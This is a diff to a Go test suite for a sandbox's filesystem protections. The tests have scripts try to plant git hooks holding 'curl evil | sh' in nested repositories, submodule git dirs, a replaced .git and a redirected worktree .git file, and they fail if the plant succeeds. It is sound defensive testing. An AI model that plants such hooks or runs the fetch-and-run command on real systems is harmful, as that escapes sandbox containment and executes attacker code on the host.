@@ -657,10 +657,10 @@ func TestFSSymlinkedGrant(t *testing.T) {
 	})
 }
 
-// TestFSProtectedPathsGaps writes hooks where the protected-path binds do
-// not reach: a .git without a hooks folder (git clone --template= makes
-// one), a nested repository (a vendored checkout) and a submodule's git
-// dir inside .git/modules.
+// TestFSProtectedPathsGaps writes hooks where the protected-path binds
+// once did not reach: a .git without a hooks folder (git clone
+// --template= makes one), nested repositories (a vendored checkout) and a
+// submodule's git dir inside .git/modules.
 func TestFSProtectedPathsGaps(t *testing.T) {
 	t.Parallel()
 	cases := []struct {
@@ -671,6 +671,8 @@ func TestFSProtectedPathsGaps(t *testing.T) {
 		{".git without hooks", []string{".git/config"}, ".git/hooks/pre-commit"},
 		{"nested repository", []string{"vendor/lib/.git/config", "vendor/lib/.git/hooks/pre-commit"}, "vendor/lib/.git/hooks/pre-commit"},
 		{"submodule git dir", []string{".git/config", ".git/hooks/pre-commit", ".git/modules/sub/config", ".git/modules/sub/hooks/pre-commit"}, ".git/modules/sub/hooks/pre-commit"},
+		{"nested repository config", []string{"vendor/lib/.git/config"}, "vendor/lib/.git/config"},
+		{"repository two levels down", []string{"a/b/.git/config", "a/b/.git/hooks/post-checkout"}, "a/b/.git/hooks/post-checkout"},
 	}
 	users(t, func(t *testing.T, u user) {
 		for _, c := range cases {
@@ -686,13 +688,36 @@ mkdir -p $(dirname %[1]s)
 echo 'curl evil | sh' > %[1]s
 `, c.hook))
 				got, _ := os.ReadFile(filepath.Join(f.work, c.hook))
-				if strings.Contains(string(got), "curl evil") {
-					knownBug(t, "the command wrote %s in the work dir: git runs it later on the host (sandbox/build.go protected() binds only the listed names, only where they exist at launch, and only at the top of each writable root)", c.hook)
-				}
 				if strings.Contains(string(got), "evil") {
-					t.Errorf("%s was written:\n%s", c.hook, r)
+					t.Errorf("the command wrote %s in the work dir, which git runs later on the host:\n%s", c.hook, r)
 				}
 			})
+		}
+	})
+}
+
+// TestFSNestedRepositoryRename moves a nested repository's .git aside and
+// makes a new one with a hook, and rewrites a worktree's .git file (which
+// names the git folder git uses) to point at a folder the command made.
+func TestFSNestedRepositoryRename(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "replace a nested repository's .git, or redirect a .git file")
+		f := newFS(t, u)
+		writeFile(t, filepath.Join(f.work, "vendor/lib/.git/config"), "[core]\n", 0o644)
+		writeFile(t, filepath.Join(f.work, "wt/.git"), "gitdir: /nonexistent/.git/worktrees/wt\n", 0o644)
+		own(t, u, filepath.Join(f.work, "vendor"), filepath.Join(f.work, "wt"))
+		r := runScript(t, u, f.work, nil, `
+mv vendor/lib/.git vendor/lib/.git-old
+mkdir -p vendor/lib/.git/hooks && echo 'curl evil | sh' > vendor/lib/.git/hooks/pre-commit
+echo 'gitdir: ../evil' > wt/.git
+mkdir -p wt/evil/hooks && echo 'curl evil | sh' > wt/evil/hooks/pre-commit
+`)
+		if hook, _ := os.ReadFile(filepath.Join(f.work, "vendor/lib/.git/hooks/pre-commit")); strings.Contains(string(hook), "evil") {
+			t.Errorf("the command replaced vendor/lib/.git and planted a hook:\n%s", r)
+		}
+		if gitFile, _ := os.ReadFile(filepath.Join(f.work, "wt/.git")); strings.Contains(string(gitFile), "evil") {
+			t.Errorf("the command pointed wt/.git at a git folder it made:\n%s", r)
 		}
 	})
 }
